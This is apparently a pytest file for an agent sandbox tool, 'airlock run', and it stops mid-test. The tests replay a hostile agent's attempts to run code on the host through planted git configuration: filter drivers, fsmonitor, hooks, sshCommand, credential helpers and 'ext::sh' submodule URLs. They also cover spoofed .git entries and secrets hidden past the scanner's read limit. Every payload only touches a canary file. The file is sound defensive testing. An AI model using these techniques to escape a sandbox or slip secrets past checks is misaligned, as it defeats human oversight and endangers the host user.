"""Attack tests for the HOST side of `airlock run` (issue 12): what a hostile agent leaves in
its workspace must not make the host run code, must not be cut or hidden on its way to the
branch, the patch and the terminal, must not cost the host unbounded memory, and must not make
the check vouch for a tree that is not the branch's.

Each test replays one attack against a real `airlock run` (io.containerd.airlock.v2, the
private containerd of the harness) and states the required behaviour: the exit codes, the
`--json` summary (`exit_code`, `failed_phase`, `failure`, `files` with `path_base64` for a
name that is not UTF-8, `branch`, `patch`, `tree`, `check_tree`), and what the user's
repository holds afterwards. Exit codes beyond README's table: 13 "limit" (the change set is
over a limit: nothing written), 14 "refused" (a .git entry, or a changed submodule path:
nothing written).

Canaries: every payload that git would run on the HOST if it ever read the agent's files (or
the host user's own git config) as configuration touches a file under the test's tmp_path;
none may ever appear.

The fixed `airlock run` runs the check in a second fresh sandbox `<id>-check`: the tests that
pass --check register that id with the airlock session, so its leftovers are checked too.
"""

import base64
import contextlib
import hashlib
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time

import pytest

from harness.ptyrun import PtySession
from test_airlock_run import Runner, git, make_repo, refs

RUN_TIMEOUT = 180
MiB = 1 << 20
GiB = 1 << 30
RSS_LIMIT_KIB = 256 * 1024

EXIT_OK, EXIT_AGENT, EXIT_CHECK, EXIT_CHANGES, EXIT_LEAK, EXIT_LIMIT, EXIT_REFUSED = 0, 8, 9, 10, 11, 13, 14

# A commit id for the submodule's gitlink (it need not exist: the workspace holds an empty dir).
SUB_COMMIT = "5e2b1c9d8a7f60413e2d1c0b9a8f7e6d5c4b3a29"
GITMODULES = b'[submodule "sub"]\n\tpath = sub\n\turl = https://example.invalid/sub.git\n'

# The agent's output prefix in the human form (reporter: 11 spaces, the phase left-aligned in 6, "| ").
AGENT_PREFIX = re.compile(rb"^ {11}agent +\| ")


@pytest.fixture
def runner(airlock, tmp_path):
    """test_airlock_run's Runner: argv, policies, the work dir (its run() is text; run_airlock here)."""
    return Runner(airlock, tmp_path)


# --- running airlock run with bytes, rusage and a bounded wait --------------------------------

class Outcome:
    """One `airlock run`: exit code, stdout/stderr as bytes, the JSON events (when --json), and
    the peak RSS of airlock and its waited-for children (KiB, from wait4)."""

    def __init__(self, rc, out, err, maxrss_kib, seconds):
        self.rc, self.out, self.err = rc, out, err
        self.maxrss_kib, self.seconds = maxrss_kib, seconds
        self.events, self.not_json = [], []
        for line in out.split(b"\n"):
            if not line.strip():
                continue
            try:
                self.events.append(json.loads(line.decode("utf-8")))
            except ValueError:
                self.not_json.append(line)

    @property
    def summary(self):
        found = [e for e in self.events if e.get("event") == "summary"]
        assert found, f"no summary:\n{self!r}"
        return found[-1]

    def output_events(self, phase, stream=None):
        return [e for e in self.events if e.get("event") == "output" and e.get("phase") == phase
                and (stream is None or e.get("stream") == stream)]

    def headline(self):
        timeline = " ".join(f"{e.get('phase')}:{e.get('state')}@{e.get('elapsed_s')}" for e in self.events
                            if e.get("event") == "phase")
        return (f"rc {self.rc} in {self.seconds:.1f}s, peak RSS {self.maxrss_kib} KiB"
                + (f"; phases {timeline}" if timeline else ""))

    def verdict(self):
        """The summary's verdict in one line (what a failed rc assertion shows first)."""
        found = [e for e in self.events if e.get("event") == "summary"]
        if not found:
            return f"rc {self.rc}, no JSON summary"
        s = found[-1]
        files = [(f.get("status"), f.get("path", "")[:60]) for f in s.get("files", [])[:6]]
        return (f"rc {self.rc}: failed_phase {s.get('failed_phase')!r}, failure {s.get('failure', '')[:300]!r}, "
                f"branch {s.get('branch')!r}, patch {s.get('patch')!r}, {len(s.get('files', []))} file(s) {files}")

    def __repr__(self):
        def tail(data, n):
            return data[-n:].decode("utf-8", "backslashreplace")
        return (f"airlock run -> {self.headline()}\n"
                f"  stdout (tail): {tail(self.out, 4000)}\n  stderr (tail): {tail(self.err, 3000)}")


# Reaps airlock for its rusage. A launcher of its own, because the rusage of a child that
# pytest spawns (vfork + exec) starts from pytest's own peak RSS: exec records the old address
# space's high-water mark. The launcher is small; its fork is what execs airlock, and wait4 on it
# gives the peak of airlock and of every child it waited for. SIGTERM is passed on to airlock.
LAUNCHER = """
import os, signal, sys
child = []
signal.signal(signal.SIGTERM, lambda *_: child and os.kill(child[0], signal.SIGTERM))
pid = os.fork()
if pid == 0:
    os.execvp(sys.argv[2], sys.argv[2:])
child.append(pid)
while True:
    try:
        _, status, usage = os.wait4(pid, 0)
        break
    except InterruptedError:
        continue
with open(sys.argv[1], "w") as f:
    f.write(str(usage.ru_maxrss))
code = os.waitstatus_to_exitcode(status)
os._exit(code if code >= 0 else 128 - code)
"""


def run_airlock(runner, repo, cid, script, *, env=None, timeout=RUN_TIMEOUT, **kw):
    """`airlock run ... -- sh -c SCRIPT` with stdout/stderr as bytes (names and output here are
    not UTF-8) and the peak RSS of airlock and its children (KiB). Bounded: SIGTERM at `timeout`
    (airlock then destroys the sandbox), SIGKILL of the launcher's group 60 s later."""
    argv = runner.argv(repo, cid, ["sh", "-c", script], **kw)
    environment = dict(runner.ctrd.env, **(env or {}))
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err, \
            tempfile.NamedTemporaryFile("r") as rss:
        started = time.monotonic()
        proc = subprocess.Popen([sys.executable, "-c", LAUNCHER, rss.name, *argv], stdin=subprocess.DEVNULL,
                                stdout=out, stderr=err, env=environment, start_new_session=True)
        timed_out = _wait_bounded(proc, timeout)
        seconds = time.monotonic() - started
        out.seek(0)
        err.seek(0)
        text = rss.read().strip()
        result = Outcome(proc.returncode, out.read(), err.read(), int(text) if text else None, seconds)
    print(f"\n[{cid}] {result.headline()}")  # (pytest -s)
    assert not timed_out, f"airlock run did not finish within {timeout}s:\n{result!r}"
    return result


def _wait_bounded(proc, timeout):
    try:
        proc.wait(timeout)
        return False
    except subprocess.TimeoutExpired:
        pass
    proc.send_signal(signal.SIGTERM)
    try:
        proc.wait(60)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait(30)
    return True


# --- the agent's file writes, exact to the byte ------------------------------------------------

def _b64(data):
    return base64.b64encode(data if isinstance(data, bytes) else data.encode()).decode()


def _set_path(path):
    # Any bytes, newline and ESC included: decoded in the sandbox, "x" keeps a trailing newline.
    return f"p=$(echo {_b64(path)} | base64 -d; echo x); p=${{p%x}}; "


def write_script(entries):
    """Shell that creates `entries` in the workspace (cwd): ("dir", path), ("file", path, bytes[,
    mode]), ("symlink", path, target). Paths and contents may hold any byte."""
    parts = ["set -e; "]
    for entry in entries:
        kind, path = entry[0], entry[1]
        parts.append(_set_path(path))
        if kind == "dir":
            parts.append('mkdir -p "$p"; ')
        elif kind == "file":
            parts.append('mkdir -p "$(dirname "$p")"; ')
            parts.append(f'echo {_b64(entry[2])} | base64 -d > "$p"; ')
            if len(entry) > 3:
                parts.append(f'chmod {entry[3]:o} "$p"; ')
        elif kind == "symlink":
            parts.append('mkdir -p "$(dirname "$p")"; ')
            parts.append(f't=$(echo {_b64(entry[2])} | base64 -d); ln -s "$t" "$p"; ')
        else:
            raise ValueError(kind)
    return "".join(parts)


def emit_script(data, stderr=False):
    """Shell that writes exactly `data` to the agent's stdout (or stderr)."""
    return f"echo {_b64(data)} | base64 -d{' >&2' if stderr else ''}; "


# --- the user's repository and what "nothing written" means ---------------------------------------

def gitb(repo, *args, check=True, timeout=120):
    p = subprocess.run(["git", "-C", repo, *args], capture_output=True, timeout=timeout)
    if check:
        assert p.returncode == 0, f"git {' '.join(args)}: {p.stderr.decode(errors='replace')}"
    return p.stdout


def make_submodule_repo(path):
    """A repository whose HEAD has a submodule gitlink `sub` (and .gitmodules naming it)."""
    repo = make_repo(path, {"README": "the project\n", "src/app.sh": "echo app\n", ".gitignore": "vendor/\n"})
    with open(os.path.join(repo, ".gitmodules"), "wb") as f:
        f.write(GITMODULES)
    os.makedirs(os.path.join(repo, "sub"))  # an uninitialised submodule: an empty directory
    git(repo, "update-index", "--add", "--cacheinfo", f"160000,{SUB_COMMIT},sub")
    git(repo, "add", ".gitmodules")
    git(repo, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "add submodule sub")
    assert git(repo, "status", "--porcelain") == ""
    assert git(repo, "ls-files", "-s", "sub").startswith(f"160000 {SUB_COMMIT}")
    return repo


class RepoState:
    """Refs and object counts of the user's repository: a refusal or a limit writes neither."""

    def __init__(self, repo):
        self.repo = repo
        self.refs = refs(repo)
        self.objects = git(repo, "count-objects", "-v")

    def assert_unchanged(self):
        assert refs(self.repo) == self.refs, f"refs of the repository changed:\n{refs(self.repo)}"
        assert git(self.repo, "count-objects", "-v") == self.objects, "objects were written into the repository"


def patch_path(runner, cid):
    return os.path.join(runner.work_dir, f"{cid}.patch")


@pytest.fixture(autouse=True)
def _remove_patches(runner):
    """The patches airlock writes into its work dir go with the test."""
    yield
    for cid in list(runner.airlock.ids):
        with contextlib.suppress(OSError):
            os.unlink(patch_path(runner, cid))


def track_check_sandbox(runner, cid):
    """The fixed airlock runs --check in a second sandbox `<cid>-check`: its leftovers count too."""
    check_id = cid + "-check"
    runner.airlock.ids.append(check_id)
    runner.airlock.seen[check_id] = {"names": set(), "address": None}
    return check_id


def assert_destroyed(runner, cid, r, json_=True):
    """What every run must end with: the sandbox destroyed, nothing left (here and for the harness)."""
    if json_:
        s = r.summary
        assert s["destroyed"] and s["leftovers"] == [], s
    else:
        assert b"destroyed, nothing left" in r.out, r
    assert not os.path.exists(os.path.join(runner.work_dir, cid)), "the task dir is gone"
    runner.airlock.assert_no_leftovers(cid)
    if cid + "-check" in runner.airlock.ids:
        runner.airlock.assert_no_leftovers(cid + "-check")


def assert_refused(runner, cid, r, before, *words):
    """rc 14, failed_phase "refused", the message names `words`; no branch, no patch, nothing written."""
    assert r.rc == EXIT_REFUSED, f"want rc 14 (refused); {r.verdict()}\n{r!r}"
    s = r.summary
    assert s["exit_code"] == EXIT_REFUSED and s["failed_phase"] == "refused", s
    for word in words:
        assert word in s["failure"], f"the message must name {word!r}: {s['failure']!r}"
    assert s["branch"] is None and s["patch"] is None, s
    assert not os.path.exists(patch_path(runner, cid)), "no patch file"
    before.assert_unchanged()


def assert_limit(runner, cid, r, before, flags, limit_forms):
    """rc 13, failed_phase "limit", the message names the flag (one of `flags`) and the limit
    (one of `limit_forms`); nothing written."""
    assert r.rc == EXIT_LIMIT, f"want rc 13 (limit); {r.verdict()}\n{r!r}"
    s = r.summary
    assert s["exit_code"] == EXIT_LIMIT and s["failed_phase"] == "limit", s
    assert any(flag in s["failure"] for flag in flags), f"the message must name {flags}: {s['failure']!r}"
    assert any(form in s["failure"] for form in limit_forms), \
        f"the message must name the limit (one of {limit_forms}): {s['failure']!r}"
    assert s["branch"] is None and s["patch"] is None, s
    assert not os.path.exists(patch_path(runner, cid)), "no patch file"
    before.assert_unchanged()


class Canaries:
    """Payloads that touch a file under tmp_path/canaries if the HOST ever runs them."""

    def __init__(self, tmp_path, case):
        self.dir = os.path.join(str(tmp_path), "canaries")
        os.makedirs(self.dir, exist_ok=True)
        self.case = case

    def path(self, key):
        return os.path.join(self.dir, f"canary-{self.case}-{key}")

    def command(self, key):
        """A command line for a git `!command`/hook-style setting (git may append arguments)."""
        return f"sh -c 'touch {self.path(key)}' payload"

    def filter(self, key):
        """A filter driver (stdin to stdout), that would also leave its mark in the content."""
        return f"sh -c 'touch {self.path(key)}; echo FILTERED-BY-HOST; cat' payload"

    def textconv(self, key):
        return f"sh -c 'touch {self.path(key)}; cat \"$1\"' payload"

    def hook(self, key):
        return f"#!/bin/sh\ntouch {self.path(key)}\nexit 0\n".encode()

    def assert_none(self, r=None):
        time.sleep(0.5)  # a payload started in the background would have touched by now
        fired = sorted(os.listdir(self.dir))
        assert not fired, f"HOST CODE EXECUTION: payloads ran on the host: {fired}\n{r!r}"


# --- 1. host code execution through git ----------------------------------------------------------

def _small_index():
    """A real index of a one-file repository (a prebuilt index for the nested repository)."""
    with tempfile.TemporaryDirectory() as d:
        subprocess.run(["git", "init", "-q", d], check=True, timeout=30)
        with open(os.path.join(d, "file.txt"), "w") as f:
            f.write("nested\n")
        subprocess.run(["git", "-C", d, "add", "file.txt"], check=True, timeout=30)
        with open(os.path.join(d, ".git", "index"), "rb") as f:
            return f.read()


def cfg(value):
    """A git config value in double quotes (a bare `;` or `#` would start a comment)."""
    return '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'


def _nested_repo(config, extra=()):
    """sub/.git made by the agent: HEAD naming a missing branch, `config`, objects/, refs/."""
    return [("dir", "sub/.git/objects/info"), ("dir", "sub/.git/objects/pack"), ("dir", "sub/.git/refs/heads"),
            ("dir", "sub/.git/refs/tags"),
            ("file", "sub/.git/HEAD", b"ref: refs/heads/no-such-branch\n"),
            ("file", "sub/.git/config", ("[core]\n\trepositoryformatversion = 0\n\tbare = false\n" + config).encode()),
            ("file", "sub/file.txt", b"nested file\n"), *extra]


def _nested_filter(c):
    return _nested_repo(f'[filter "x"]\n\tclean = {cfg(c.filter("clean"))}\n\tsmudge = {cfg(c.filter("smudge"))}\n'
                        '\trequired = true\n',
                        [("file", "sub/.gitattributes", b"* filter=x\n"), ("file", "sub/.git/index", _small_index())])


def _nested_fsmonitor(c):
    return _nested_repo(f"[core]\n\tfsmonitor = {cfg(c.command('fsmonitor'))}\n\tuntrackedCache = true\n")


def _nested_hooks(c):
    names = ("pre-commit", "post-commit", "post-checkout", "post-merge", "pre-push", "reference-transaction",
             "post-index-change", "fsmonitor-watchman", "pre-auto-gc", "post-rewrite", "push-to-checkout")
    return _nested_repo("", [("file", f"sub/.git/hooks/{name}", c.hook(name), 0o755) for name in names])


def _nested_sshcommand(c):
    return _nested_repo(f"[core]\n\tsshCommand = {cfg(c.command('sshcommand'))}\n"
                        f"\tgitProxy = {cfg(c.command('gitproxy'))}\n"
                        '[remote "origin"]\n\turl = ssh://example.invalid/x.git\n'
                        "\tfetch = +refs/heads/*:refs/remotes/origin/*\n"
                        "[submodule]\n\trecurse = true\n")


def _nested_diff_external(c):
    return _nested_repo(f"[diff]\n\texternal = {cfg(c.command('diff-external'))}\n")


def _nested_textconv(c):
    return _nested_repo(f'[diff "x"]\n\ttextconv = {cfg(c.textconv("textconv"))}\n'
                        f'\tcommand = {cfg(c.command("diff-command"))}\n',
                        [("file", "sub/.gitattributes", b"* diff=x\n")])


def _nested_pager_editor(c):
    return _nested_repo(f"[core]\n\tpager = {cfg(c.command('pager'))}\n\teditor = {cfg(c.command('editor'))}\n"
                        f"\taskPass = {cfg(c.command('askpass'))}\n"
                        f"[credential]\n\thelper = {cfg('!' + c.command('credential'))}\n"
                        f"[alias]\n\tadd = {cfg('!' + c.command('alias'))}\n"
                        "[gc]\n\tauto = 1\n\tautoDetach = false\n")


NESTED_VARIANTS = {
    "filter": _nested_filter,
    "fsmonitor": _nested_fsmonitor,
    "hooks": _nested_hooks,
    "sshcommand": _nested_sshcommand,
    "diff-external": _nested_diff_external,
    "textconv": _nested_textconv,
    "pager-editor": _nested_pager_editor,
}


@pytest.mark.parametrize("variant", sorted(NESTED_VARIANTS))
def test_nested_repository_in_the_submodule_path_is_refused(runner, tmp_path, variant):
    """Attack: the agent turns the submodule's empty directory `sub` into a nested repository
    whose config (filter driver with `* filter=x`, core.fsmonitor, hooks, core.sshCommand,
    diff.external, textconv, pager/editor/askPass/credential helper/alias) runs a payload
    whenever git on the host treats sub/.git as a repository. Required: refused (rc 14) with a
    message naming sub/.git, nothing written into the user's repository, no payload ran."""
    cid = runner.airlock.new_id(variant[:3])
    repo = make_submodule_repo(str(tmp_path / "project"))
    before = RepoState(repo)
    canaries = Canaries(tmp_path, variant)
    script = write_script(NESTED_VARIANTS[variant](canaries)) + "echo fine > notes.txt; echo agent-done"
    r = run_airlock(runner, repo, cid, script, policy=runner.policy(cid))
    canaries.assert_none(r)
    assert_refused(runner, cid, r, before, "sub/.git", ".git")
    assert_destroyed(runner, cid, r)


def test_host_users_git_config_and_attributes_are_not_used(runner, tmp_path):
    """Attack: the agent writes `.gitattributes` `* filter=x diff=x`, naming drivers that the
    HOST user's own git config defines (git-lfs/git-crypt style: ~/.gitconfig filter.x,
    diff.x.textconv, core.fsmonitor; $XDG_CONFIG_HOME/git/attributes `* filter=x`); each is a
    payload here. Required: airlock's git uses none of them: rc 0, a branch whose files are
    byte-identical to what the agent wrote (no filter applied), no payload ran."""
    cid = runner.airlock.new_id()
    repo = make_repo(str(tmp_path / "project"))
    # No racily clean index entry in the user's repository (files as new as the index are hashed
    # again, through the user's filter, by any `git status`): the work tree 10 s old, the index new.
    past = time.time() - 10
    for rel in git(repo, "ls-files", "-z").split("\0"):
        if rel:
            os.utime(os.path.join(repo, rel), (past, past))
    git(repo, "update-index", "--refresh")
    canaries = Canaries(tmp_path, "user-config")
    home = tmp_path / "home"
    xdg = tmp_path / "xdg"
    (xdg / "git").mkdir(parents=True)
    home.mkdir()
    (home / ".gitconfig").write_text(
        f'[filter "x"]\n\tclean = {cfg(canaries.filter("clean"))}\n\tsmudge = {cfg(canaries.filter("smudge"))}\n'
        f'\trequired = true\n[diff "x"]\n\ttextconv = {cfg(canaries.textconv("textconv"))}\n'
        f'[core]\n\tfsmonitor = {cfg(canaries.command("fsmonitor"))}\n')
    (xdg / "git" / "attributes").write_text("* filter=x\n")
    (xdg / "git" / "config").write_text(
        f'[filter "x"]\n\tclean = {cfg(canaries.filter("xdg-clean"))}\n\trequired = true\n')
    files = {".gitattributes": b"* filter=x diff=x\n",
             "data.txt": b"what the agent wrote\n",
             "src/app.sh": b"echo app v2\n",
             "blob.bin": bytes(range(256)) * 4}
    script = write_script([("file", p, d) for p, d in files.items()]) + "echo agent-done"
    r = run_airlock(runner, repo, cid, script, policy=runner.policy(cid),
                    env={"HOME": str(home), "XDG_CONFIG_HOME": str(xdg)})
    canaries.assert_none(r)
    assert r.rc == EXIT_OK, f"want rc 0; {r.verdict()}\n{r!r}"
    s = r.summary
    branch = f"airlock/{cid}"
    assert s["branch"] == branch, s
    for path, data in files.items():
        assert gitb(repo, "cat-file", "blob", f"{branch}:{path}") == data, \
            f"{path} on the branch is not the agent's bytes"
    assert sorted(f["path"] for f in s["files"]) == sorted(files), s["files"]
    assert_destroyed(runner, cid, r)


@pytest.mark.parametrize("where", ["subdir", "root"])
def test_gitdir_file_pointing_at_a_host_repository_is_refused(runner, tmp_path, where):
    """Attack: a `.git` FILE `gitdir: <host path>` (in a subdirectory, or at the workspace's
    root) points git on the host at a repository the attacker chose, here one with a
    core.fsmonitor payload and hooks. Required: refused (rc 14), nothing written, no payload ran."""
    cid = runner.airlock.new_id(where[:3])
    repo = make_repo(str(tmp_path / "project"))
    before = RepoState(repo)
    canaries = Canaries(tmp_path, f"gitdir-{where}")
    target = make_repo(str(tmp_path / "host-target"))
    git(target, "config", "core.fsmonitor", canaries.command("fsmonitor"))
    git(target, "config", "core.sshCommand", canaries.command("sshcommand"))
    git(target, "config", "filter.x.clean", canaries.filter("clean"))
    for name in ("pre-commit", "post-checkout", "reference-transaction", "post-index-change"):
        hook = os.path.join(target, ".git", "hooks", name)
        with open(hook, "wb") as f:
            f.write(canaries.hook(name))
        os.chmod(hook, 0o755)
    target_refs = refs(target)  # (no `git status` in it from here on: its config is the payload)
    dotgit = "tools/.git" if where == "subdir" else ".git"
    entries = [("file", "tools/build.sh", b"echo build\n"), ("file", ".gitattributes", b"* filter=x\n"),
               ("file", dotgit, f"gitdir: {target}/.git\n".encode())]
    r = run_airlock(runner, repo, cid, write_script(entries) + "echo fine > notes.txt",
                    policy=runner.policy(cid))
    canaries.assert_none(r)
    assert_refused(runner, cid, r, before, dotgit, ".git")
    assert refs(target) == target_refs, "the repository the .git file names was written"
    assert_destroyed(runner, cid, r)


@pytest.mark.parametrize("where", ["subdir", "root"])
def test_symlinked_dotgit_to_the_users_repository_is_refused(runner, tmp_path, where):
    """Attack: `.git` as a SYMLINK to the user's own repository's .git (at the submodule path,
    or at the workspace's root): git on the host following it would read and write the user's
    repository through the agent's tree. Required: refused (rc 14), nothing written."""
    cid = runner.airlock.new_id(where[:3])
    repo = make_submodule_repo(str(tmp_path / "project"))
    before = RepoState(repo)
    dotgit = "sub/.git" if where == "subdir" else ".git"
    entries = [("symlink", dotgit, os.path.join(repo, ".git")), ("file", "notes.txt", b"fine\n")]
    r = run_airlock(runner, repo, cid, write_script(entries), policy=runner.policy(cid))
    assert_refused(runner, cid, r, before, dotgit, ".git")
    assert git(repo, "status", "--porcelain") == ""
    assert_destroyed(runner, cid, r)


def test_rewritten_gitmodules_is_data_on_the_branch(runner, tmp_path):
    """Attack: the agent rewrites .gitmodules with url = ext::sh -c touch% CANARY and
    update = !sh -c 'touch CANARY' (what `git submodule update` on the host would run).
    Required: it is only data: rc 0, the new .gitmodules on the branch byte for byte, nothing ran."""
    cid = runner.airlock.new_id()
    repo = make_submodule_repo(str(tmp_path / "project"))
    canaries = Canaries(tmp_path, "gitmodules")
    gitmodules = (f'[submodule "sub"]\n\tpath = sub\n\turl = ext::sh -c touch% {canaries.path("ext-url")}\n'
                  f"\tupdate = !sh -c 'touch {canaries.path('update')}'\n"
                  f'[submodule "other"]\n\tpath = other\n\turl = ext::sh -c touch% {canaries.path("other")}\n').encode()
    r = run_airlock(runner, repo, cid, write_script([("file", ".gitmodules", gitmodules)]), policy=runner.policy(cid))
    canaries.assert_none(r)
    assert r.rc == EXIT_OK, f"want rc 0; {r.verdict()}\n{r!r}"
    s = r.summary
    branch = f"airlock/{cid}"
    assert s["branch"] == branch, s
    assert gitb(repo, "cat-file", "blob", f"{branch}:.gitmodules") == gitmodules
    assert [(f["status"], f["path"]) for f in s["files"]] == [("M", ".gitmodules")], s["files"]
    assert git(repo, "ls-tree", branch, "sub").split()[:3] == ["160000", "commit", SUB_COMMIT], \
        "the gitlink is unchanged"
    assert_destroyed(runner, cid, r)


SUBMODULE_PATH_CHANGES = {
    "file": [("file", "sub", b"not a submodule any more\n")],
    "symlink": [("symlink", "sub", "/etc")],
    "plain-files": [("file", "sub/README", b"vendored\n"), ("file", "sub/lib/code.sh", b"echo vendored\n")],
}


@pytest.mark.parametrize("change", sorted(SUBMODULE_PATH_CHANGES))
def test_changed_submodule_path_is_refused(runner, tmp_path, change):
    """Attack: the submodule path `sub` replaced by a file, by a symlink (to /etc), or filled
    with plain files: the gitlink would silently become something else on the branch.
    Required: refused (rc 14) naming `sub`, nothing written."""
    cid = runner.airlock.new_id(change[:3])
    repo = make_submodule_repo(str(tmp_path / "project"))
    before = RepoState(repo)
    entries = SUBMODULE_PATH_CHANGES[change]
    script = ("rmdir sub; " if change in ("file", "symlink") else "") + write_script(entries) + "echo fine > notes.txt"
    r = run_airlock(runner, repo, cid, script, policy=runner.policy(cid))
    assert_refused(runner, cid, r, before, "sub")
    assert_destroyed(runner, cid, r)


def _dotgit_variants(c):
    nested_config = f"[core]\n\tfsmonitor = {cfg(c.command('fsmonitor'))}\n".encode()
    return {
        # git itself refuses all of these names (verify_path: case-insensitive .git, NTFS forms).
        "upper-dir": ("docs/.GIT", [("file", "docs/.GIT/HEAD", b"ref: refs/heads/main\n"),
                                    ("file", "docs/.GIT/config", nested_config),
                                    ("dir", "docs/.GIT/objects"), ("dir", "docs/.GIT/refs")]),
        "mixed-file": ("lib/.Git", [("file", "lib/.Git", b"gitdir: /tmp\n"), ("file", "lib/code.sh", b"echo\n")]),
        "ntfs-short": ("tools/GIT~1", [("file", "tools/GIT~1/config", nested_config),
                                       ("file", "tools/GIT~1/HEAD", b"ref: refs/heads/main\n")]),
        "ntfs-dot": ("misc/.git.", [("file", "misc/.git.", b"gitdir: /tmp\n")]),
    }


@pytest.mark.parametrize("variant", ["upper-dir", "mixed-file", "ntfs-short", "ntfs-dot"])
def test_case_and_ntfs_variants_of_dotgit_are_refused(runner, tmp_path, variant):
    """Attack: `.git` spelled so that a case-insensitive or NTFS checkout makes it the real
    thing: a directory `.GIT`, a file `.Git`, the 8.3 name `GIT~1`, a trailing dot `.git.`
    (git refuses all of them as paths). Required: refused (rc 14) naming the path."""
    cid = runner.airlock.new_id(variant[:3])
    repo = make_repo(str(tmp_path / "project"))
    before = RepoState(repo)
    canaries = Canaries(tmp_path, variant)
    path, entries = _dotgit_variants(canaries)[variant]
    r = run_airlock(runner, repo, cid, write_script(entries) + "echo fine > notes.txt", policy=runner.policy(cid))
    canaries.assert_none(r)
    assert_refused(runner, cid, r, before, path)
    assert_destroyed(runner, cid, r)


# --- 2. nothing cut silently ---------------------------------------------------------------------

SECRET_POLICY = {"secrets_": ["API_TOKEN"], "tmpfs": {"/tmp": "8Mi"}}
# Setup has the secret and leaves nothing of it (the seal's sweep would fail the run otherwise:
# test_airlock_secret_sweep.py); the agent is handed the value as one that found it somewhere.
SECRET_SETUP = 'test -n "$API_TOKEN" && echo setup-done'


def plant_secret(value):
    """Agent script prefix: the value into /tmp/cred, from two halves (the agent's command line,
    which airlock shows, never holds it whole)."""
    half = len(value) // 2
    return f'a={value[:half]}; b={value[half:]}; printf "%s%s\\n" "$a" "$b" > /tmp/cred; '


def _secret_value():
    return "tok-" + os.urandom(12).hex()


def test_secret_after_17_mib_of_padding_is_found(runner, tmp_path):
    """Attack: the agent hides the secret (left by setup in /tmp) at the end of a 17 MiB file:
    past the 16 MiB that the old code read of each blob and of the patch. Required: rc 11
    naming the file, no branch, no patch, nothing written."""
    cid = runner.airlock.new_id()
    repo = make_repo(str(tmp_path / "project"))
    before = RepoState(repo)
    value = _secret_value()
    script = (plant_secret(value) + "set -e; dd if=/dev/zero bs=1048576 count=17 2>/dev/null | tr '\\0' a > padding.txt; "
              "cat /tmp/cred >> padding.txt; echo fine > notes.txt; ls -l padding.txt")
    r = run_airlock(runner, repo, cid, script, policy=runner.policy(cid, **SECRET_POLICY), setup=SECRET_SETUP,
                    secrets_=["API_TOKEN"], env={"API_TOKEN": value})
    assert r.rc == EXIT_LEAK, f"want rc 11 (secret-leak); {r.verdict()}\n{r!r}"
    s = r.summary
    assert s["failed_phase"] == "secret-leak" and s["branch"] is None and s["patch"] is None, s
    assert {"secret": "API_TOKEN", "where": "padding.txt"} in s["secret_leaks"], s["secret_leaks"]
    assert value.encode() not in r.out and value.encode() not in r.err
    assert not os.path.exists(patch_path(runner, cid))
    before.assert_unchanged()
    assert_destroyed(runner, cid, r)


# 5,000 files whose paths are long (16 directories of 200-byte names, 4 leaf directories, 200-byte
# file names: ~3.6 KB a path), so that the old code's listing of the change set (git diff-tree -z)
# is past 16 MiB (~18.6 MB) and its patch ~55 MB.
MANY_FILES = 5000
DEEP = "/".join(f"{i:02d}" + "L" * 198 for i in range(16))
LEAVES = [f"k{j}-" + "x" * 197 for j in range(4)]
FILE_TAIL = "-" + "y" * 194  # "f1xxxx" + tail: 200 bytes


def _many_paths():
    return [f"{DEEP}/{LEAVES[i % 4]}/f{i + 10000}{FILE_TAIL}" for i in range(MANY_FILES)]


def _many_files_script(secret_in_last, value):
    last = _many_paths()[-1]  # i = 4999: k3, f14999: the last path in git's order
    assert last == max(_many_paths())
    script = (plant_secret(value) + f"set -e; D={DEEP}; T={FILE_TAIL}; "
              + "".join(f'mkdir -p "$D/{leaf}"; ' for leaf in LEAVES)
              + f'i=0; while [ $i -lt {MANY_FILES} ]; do '
                f'case $((i % 4)) in 0) L={LEAVES[0]};; 1) L={LEAVES[1]};; 2) L={LEAVES[2]};; *) L={LEAVES[3]};; esac; '
                f'echo "file $i" > "$D/$L/f$((i + 10000))$T"; i=$((i + 1)); done; ')
    if secret_in_last:
        script += f'cat /tmp/cred >> "{last}"; '
    return script + "echo agent-done"


@contextlib.contextmanager
def worktree_of_main(repo, path):
    git(repo, "worktree", "add", "-q", "--detach", str(path), "main")
    try:
        yield str(path)
    finally:
        git(repo, "worktree", "remove", "--force", str(path))


def _patch_new_paths(patch):
    """The `+++ b/PATH` names of a patch (bytes)."""
    return {line[6:].decode() for line in patch.split(b"\n") if line.startswith(b"+++ b/")}


@pytest.mark.parametrize("variant", ["complete", "secret-in-last"])
def test_five_thousand_long_names_are_all_listed_scanned_and_patched(runner, tmp_path, variant):
    """Attack: 5,000 new files with long paths push the change set's listing past the 16 MiB
    that the old code read: files beyond it were missing from the summary, from the secret scan
    and from the patch, but on the branch. Required: every file in "files", on the branch and in
    a patch that applies; with the secret in the LAST file: rc 11 naming that file."""
    cid = runner.airlock.new_id(variant[:3])
    repo = make_repo(str(tmp_path / "project"))
    before = RepoState(repo)
    value = _secret_value()
    secret_in_last = variant == "secret-in-last"
    r = run_airlock(runner, repo, cid, _many_files_script(secret_in_last, value),
                    policy=runner.policy(cid, **SECRET_POLICY), setup=SECRET_SETUP, secrets_=["API_TOKEN"],
                    env={"API_TOKEN": value}, timeout=600)
    paths = _many_paths()
    s = r.summary
    if secret_in_last:
        assert r.rc == EXIT_LEAK, f"want rc 11 (secret-leak); {r.verdict()}\n{r!r}"
        assert s["failed_phase"] == "secret-leak" and s["branch"] is None and s["patch"] is None, \
            {k: s[k] for k in ("exit_code", "failed_phase", "failure", "branch", "patch")}
        assert {"secret": "API_TOKEN", "where": paths[-1]} in s["secret_leaks"], s["secret_leaks"]
        assert not os.path.exists(patch_path(runner, cid))
        before.assert_unchanged()
        assert_destroyed(runner, cid, r)
        return
    assert r.rc == EXIT_OK, f"want rc 0; {r.verdict()}\n{r!r}"
    branch = f"airlock/{cid}"
    assert s["branch"] == branch, {k: s[k] for k in ("exit_code", "failed_phase", "failure", "branch", "patch")}
    listed = [f["path"] for f in s["files"]]
    assert len(listed) == MANY_FILES, f"summary lists {len(listed)} files, want {MANY_FILES}"
    assert sorted(listed) == sorted(paths) and {f["status"] for f in s["files"]} == {"A"}
    on_branch = gitb(repo, "ls-tree", "-r", "-z", "--name-only", branch, "--", DEEP).split(b"\0")
